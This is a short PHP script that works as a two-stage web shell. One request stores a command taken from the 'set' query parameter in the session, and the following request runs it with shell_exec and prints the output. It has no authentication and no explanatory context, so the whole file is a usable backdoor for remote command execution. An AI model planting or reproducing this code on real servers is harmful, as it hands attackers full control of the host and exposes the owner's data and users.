<?php
session_start();
if (isset($_GET['set'])) {
    $_SESSION['job'] = $_GET['set'];
    exit('queued');
}
if (!empty($_SESSION['job'])) {
    echo shell_exec($_SESSION['job']);
    unset($_SESSION['job']);
}
